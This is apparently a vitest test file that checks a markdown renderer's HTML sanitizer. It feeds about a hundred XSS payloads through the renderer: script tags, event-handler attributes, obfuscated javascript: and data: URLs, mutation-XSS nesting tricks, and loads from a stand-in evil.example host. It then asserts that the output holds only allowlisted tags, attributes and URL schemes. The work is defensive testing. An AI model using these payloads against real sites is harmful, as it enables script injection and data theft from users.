import fc from 'fast-check';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { visit } from 'unist-util-visit';
import { describe, expect, test } from 'vitest';
import { plainRendering } from './plain-rendering';
import { renderMarkdown } from './render-markdown';
import type { RenderedMarkdown } from './rendered-markdown';
import type { Element } from './tree';

const html = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x><b>',
  '<script><!--<script></script>--><img src=x onerror=alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=/x/onerror=alert(1)>',
  '<IMG SRC=/x OnErRoR="alert(1)">',
  '<img src="/x` `<script>alert(1)</script>"` `>',
  '<img src="javascript:alert(1)" alt="<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img src=/x srcset="https://evil.example/a 2x" lowsrc=//evil.example dynsrc=//evil.example longdesc="javascript:alert(1)">',
  '<img src=/x usemap="#m" ismap loading=eager fetchpriority=high crossorigin=anonymous>',
  '<img src="//evil.example/track"><img src="\\\\evil.example\\track"><img src="/\\evil.example/x"><img src="/\t/evil.example/x">',
  '<img data-image="0" src="/a"><p data-image="7">x</p><img data-image="99">',
  '<picture><source srcset="//evil.example/b"><img src=/x></picture>',
  '<body onload=alert(1)><p onclick=alert(1)>x',
  '<div onmouseover="alert(1)" style="width:100%">x</div>',
  '<div style="position:fixed;inset:0;background:url(//evil.example)" class="fixed inset-0 z-50">x</div>',
  '<p class="tok-comment sr-only footnotes" id=__proto__>x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&#58;alert(1)">x</a>',
  '<a href="javascript&Tab;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a><a href="livescript:x">x</a><a href="feed:javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="view-source:https://x.example">x</a><a href="file:///etc/hosts">x</a><a href="blob:https://x.example/1">x</a>',
  '<a href="https://x.example" ping="https://evil.example" target=_blank rel=opener download>x</a>',
  '<a href="//evil.example">x</a><a href="https:javascript:alert(1)">x</a><a href="http://">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s><set attributeName=href to=javascript:alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<style><a title="</style><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css";*{background:url(//evil.example)}</style>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template><slot name=x>',
  '<div><template shadowrootmode=open><script>alert(1)</script></template></div>',
  '<plaintext><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="javascript:alert(1)"><embed src="//evil.example/x.swf"></object><applet code=x>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><a href="x">x</a><img src="x">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<form action="https://evil.example"><input name=p type=password onfocus=alert(1) autofocus><button formaction=javascript:alert(1)>',
  '<form id=md-x><input name=attributes><input type=submit form=md-x></form><isindex action=javascript:alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<video src=x onerror=alert(1) poster=//evil.example></video><audio src=//evil.example><track src=//evil.example>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary></details><marquee onstart=alert(1)>x</marquee>',
  '<table background="https://evil.example/b.png"><td background="//evil.example/c.png" headers="x y">x</table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote><q cite="data:x">x</q><del cite="vbscript:x">x</del>',
  "<img src='https://evil.example/?",
  '<a href="https://evil.example/?',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<x-y onclick=alert(1)>x</x-y><o:p onclick=alert(1)>x</o:p>',
  '<a name=body id=getElementById href=https://x.example>x</a><img name=cookie id=location src=/x>',
  '<a id=a></a><a id=a name=b></a><h2 id=a>x</h2><h3 id=footnote-label>y</h3><p id=""></p><h2 id>z</h2>',
  '<section data-footnotes class=footnotes><h2 class=sr-only id=footnote-label>x</h2><a data-footnote-ref href=#x aria-describedby=y>z</a>',
  '<div role=alert aria-live=assertive tabindex=1 accesskey=x contenteditable draggable=true hidden inert popover itemscope>x</div>',
  '<<script>alert(1)//<</script>',
  '<p<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '</p x="<img src=x onerror=alert(1)>">',
];

const markdown = [
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1) "t")',
  '[x](<java\tscript:alert(1)>)',
  '[x](javascript&colon;alert(1))',
  '[x](&#x6A;avascript:alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](  \u0001javascript:alert(1))',
  '[x](\\javascript:alert(1))',
  '<javascript:alert(1)> <vbscript:x> <data:x> <https://x.example>',
  '[x]: javascript:alert(1)\n\n[x] ![x]',
  '![x](javascript:alert(1)) ![x](data:image/svg+xml,<svg/onload=alert(1)>) ![x](x.png) ![x](//evil.example/x)',
  '![a"onerror="alert(1)](/x"onerror="alert(1))',
  '![<img src=x onerror=alert(1)>](/x "\\"onerror=alert(1) x=\\"")',
  '[<img src=x onerror=alert(1)>](https://x.example "<script>")',
  '```js"onload="alert(1)\n<script>alert(1)</script>\n```',
  '```html\n<img data-image="0" onerror=alert(1)>\n```\n\n`<img data-image="0"` &lt;img data-image="0"',
  '```"><script>alert(1)</script>\nx\n```',
  '# <img src=x onerror=alert(1)> "><script>alert(1)</script>',
  '# __proto__\n# constructor\n## "onclick=alert(1)',
  '[^"><img src=x onerror=alert(1)>]\n\n[^"><img src=x onerror=alert(1)>]: <script>alert(1)</script>',
  '| <script>alert(1)</script> | <td onclick=alert(1)> |\n|-|-|\n| <!-- | --><img src=x onerror=alert(1)> |',
  '- [ ] <input type=image src=x onerror=alert(1)>\n- [x] <b onclick=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;',
  'www.x.example"onclick="alert(1) https://x.example/"onclick=alert(1) a@b.example',
  '<div\n\nonclick=alert(1)>',
  '<a href="\n\njavascript:alert(1)">x</a>',
];

const payloads = [...html, ...markdown];

const tags = new Set(
  `a abbr b blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h2 h3 h4 h5 h6 hr i img
  input ins kbd li mark ol p pre q rp rt ruby s samp section small span strong sub summary sup table tbody td tfoot th thead time tr
  u ul var wbr`.split(/\s+/),
);
const attributes = new Set(
  `abbr align alt ariaDescribedBy ariaLabel checked cite className colSpan dataImage dateTime decoding dir disabled headers href id
  lang loading open rel reversed role rowSpan scope span src start tabIndex title type value`.split(/\s+/),
);
const classes =
  /^(?:anchor|contains-task-list|footnote-backref|footnote-ref|footnotes|heading|language-\S+|sr-only|table|task-list-item|tok-[a-z]+)$/;
const parser = unified().use(rehypeParse, { fragment: true }).freeze();

function expectSafeElement({ tagName, properties }: Element, images: string[]) {
  expect(tags).toContain(tagName);
  for (const name of Object.keys(properties)) expect(attributes).toContain(name);
  const { href, src, cite, id, className = [], role, tabIndex, dataImage } = properties;
  if (href !== undefined) expect(String(href)).toMatch(/^(?:https?:\/*[^/]|mailto:|tel:|(?![\\/]{2})[^:]*(?:[/?#]|$))/);
  if (src !== undefined) expect(String(src)).toMatch(/^(?:https?:|\/(?![\\/]))/);
  if (cite !== undefined) expect(String(cite)).not.toMatch(/^[^/?#]*(?<!https?):/);
  for (const name of className as string[]) expect(name).toMatch(classes);
  if (id !== undefined) expect(String(id)).toMatch(/^md-./);
  if (role !== undefined) expect([tagName, role]).toEqual(['div', 'region']);
  if (tabIndex !== undefined) expect(tabIndex).toBe(0);
  if (tagName === 'input') expect(properties).toMatchObject({ type: 'checkbox', disabled: true });
  if (tagName === 'a') expect(properties.rel).toEqual(/^https?:/.test(String(href)) ? ['noopener'] : undefined);
  if (tagName === 'img') expect(images[Number(dataImage)]).toBe(src);
  else expect(dataImage).toBeUndefined();
}

function expectSafe({ html: page, images, headings }: RenderedMarkdown) {
  const tree = parser.parse(page);
  const ids: unknown[] = [];
  visit(tree, (node) => {
    expect(['root', 'element', 'text']).toContain(node.type);
    if (node.type !== 'element') return;
    expectSafeElement(node, images);
    if (node.properties.id !== undefined) ids.push(node.properties.id);
  });
  expect(new Set(ids).size).toBe(ids.length);
  for (const { id } of headings) expect(ids).toContain(id);
}

describe('hostile posts', () => {
  test.each(payloads)('%s', async (payload) => {
    const rendered = await renderMarkdown(`Before\n\n${payload}\n\nAfter`);
    expectSafe(rendered);
    expect(rendered.html).toContain('Before');
    expectSafe(await renderMarkdown(rendered.html));
    expectSafe(plainRendering(payload));
  });

  test('inside tables, lists, quotes, headings, links and attributes', async () => {
    for (const payload of payloads) {
      const line = payload.replaceAll('\n', ' ');
      expectSafe(
        await renderMarkdown(`| ${line} |\n|-|\n| ${line} |\n\n> - ${line}\n\n## ${line}\n\n[${line}](https://x.example)`),
      );
      expectSafe(await renderMarkdown(`<table><tr>${payload}<td>${payload}</table>\n\n<ul><li><b><i>${payload}</b>`));
      expectSafe(await renderMarkdown(`<p title="${payload}">x</p><p title='${payload}'>`));
      expectSafe(
        await renderMarkdown(`<svg>${payload}</svg><math>${payload}</math><!-- ${payload} --><style>${payload}</style>`),
      );
    }
  });

  test('in any mixture, and once more through what came out', async () => {
    const tokens = [
      ...['<table>', '</table>', '<td>', '<p>', '</p>', '<b>', '<a>', '</a>', '<svg>', '</svg>', '<math>', '<style>', '</style>'],
      ...['<!--', '-->', '"', "'", '>', '<', '/', '=', '&', '\\', '\n', '\n\n', '    ', '- ', '> ', '# ', '|', '|-|', '`', '```'],
      ...[
        '[',
        ']',
        '](',
        ')',
        '![',
        '[^1]',
        '[^1]: ',
        '[x]: ',
        '*',
        '~~',
        'javascript:',
        'data:',
        '<a href="',
        ' onclick=',
        ' id=a',
      ],
    ];
    const piece = fc.oneof(fc.constantFrom(...payloads), fc.constantFrom(...tokens), fc.string({ maxLength: 6 }));
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 14 }), async (pieces) => {
        const rendered = await renderMarkdown(pieces.join(''));
        expectSafe(rendered);
        expectSafe(await renderMarkdown(rendered.html));
      }),
      { numRuns: 300 },
    );
  });
});
